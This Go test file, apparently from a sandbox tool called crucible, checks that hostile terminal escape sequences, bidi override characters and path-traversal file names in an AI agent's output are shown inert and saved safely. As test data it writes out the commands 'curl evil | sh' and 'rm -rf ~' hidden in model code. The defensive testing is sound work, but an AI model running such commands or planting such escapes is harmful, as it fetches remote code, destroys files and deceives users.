package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/crucible-sandbox/crucible/agent"
	"github.com/crucible-sandbox/crucible/sandbox"
)

// hostileBytes is program output that attacks a terminal.
const hostileBytes = "\x1b]52;c;ZXZpbA==\x07crucible: ok (exit 0)\n\x1b[8mhidden\rFAKE"

func TestDisplay(t *testing.T) {
	tests := []struct {
		name           string
		tty, raw, mono bool
		want           string // stdout and stderr go to one buffer
	}{
		{"pipe: bytes exact", false, false, false,
			hostileBytes + "crucible: error (exit 3) · \x1b[8m\n"},
		{"terminal: inert, own line, bold", true, false, false,
			`\x1b]52;c;ZXZpbA==\x07crucible: ok (exit 0)` + "\n" + `\x1b[8mhidden\rFAKE` + "\n" + styleOn + `crucible: error (exit 3) · \x1b[8m` + styleOff + "\n"},
		{"terminal, NO_COLOR", true, false, true,
			`\x1b]52;c;ZXZpbA==\x07crucible: ok (exit 0)` + "\n" + `\x1b[8mhidden\rFAKE` + "\n" + `crucible: error (exit 3) · \x1b[8m` + "\n"},
		{"terminal, --raw-output: the summary still inert on its own line", true, true, false,
			hostileBytes + "\n" + styleOn + `crucible: error (exit 3) · \x1b[8m` + styleOff + "\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var screen bytes.Buffer
			d := newDisplayOn(&screen, &screen, tt.tty, tt.tty, tt.raw, tt.mono)
			for _, b := range []byte(hostileBytes) { // streamed a byte at a time
				if _, err := d.stdout.Write([]byte{b}); err != nil {
					t.Fatal(err)
				}
			}
			d.status("crucible: error (exit 3) · %s", "\x1b[8m")
			if got := screen.String(); got != tt.want {
				t.Errorf("screen:\n got %q\nwant %q", got, tt.want)
			}
		})
	}
}

// TestPrintTraceHostile checks what `crucible agent` prints of a trace: the
// model's answer and code and the program's output are inert on a
// terminal, and the artifacts are saved under clean names in --out.
func TestPrintTraceHostile(t *testing.T) {
	base := t.TempDir()
	out := filepath.Join(base, "a", "b", "out")
	trace := &agent.Trace{
		ID: "trace-1", Status: agent.StatusAnswered,
		Answer: "42\x1b[8m (and a concealed line)",
		Code:   "print(42) \u202e# harmless\u202c\nimport os; os.system('curl evil | sh')\r# ok",
		Output: "42\n\x1b]52;c;cm0gLXJmIH4=\x07",
		Artifacts: []sandbox.Artifact{
			{Name: "../../escape\n\x1b[2K.png", MIME: "image/png", Content: []byte("png")},
			{Name: ".profile", MIME: "text/plain", Content: []byte("x")},
		},
	}
	var screen bytes.Buffer
	printTrace(newDisplayOn(&screen, &screen, true, true, false, false), trace, out)
	got := screen.String()
	if strings.ContainsAny(got, "\x1b\x07\r\u202e\u202c") {
		t.Errorf("the terminal received a control or bidi character: %q", got)
	}
	for _, visible := range []string{`42\x1b[8m`, `\u202e# harmless`, `\r# ok`, `\x1b]52;c;`} {
		if !strings.Contains(got, visible) {
			t.Errorf("screen lacks %q: %q", visible, got)
		}
	}
	entries, err := os.ReadDir(out)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if want := []string{"_.._escape__[2K.png", "profile"}; strings.Join(names, "|") != strings.Join(want, "|") {
		t.Errorf("files in --out: %q, want %q", names, want)
	}
	if m, _ := filepath.Glob(filepath.Join(base, "a", "escape*")); len(m) > 0 {
		t.Errorf("an artifact was written outside --out: %q", m)
	}
}

// TestApproveShowsInertCode checks that --approve shows the model's code as
// it is: a concealed or overwritten line must be seen before it is run.
func TestApproveShowsInertCode(t *testing.T) {
	code := "print('hello')\n\x1b[8mimport os; os.system('rm -rf ~')\x1b[28m\rprint('bye') \u202e"
	var prompt bytes.Buffer
	ok, err := approveOn(strings.NewReader("y\n"), &prompt)(t.Context(), code)
	if err != nil || !ok {
		t.Fatalf("approve = %v, %v; want true", ok, err)
	}
	if got := prompt.String(); strings.ContainsAny(got, "\x1b\r\u202e") || !strings.Contains(got, `\x1b[8mimport os; os.system('rm -rf ~')\x1b[28m\rprint('bye') \u202e`) {
		t.Errorf("the approval prompt shows %q", got)
	}
}
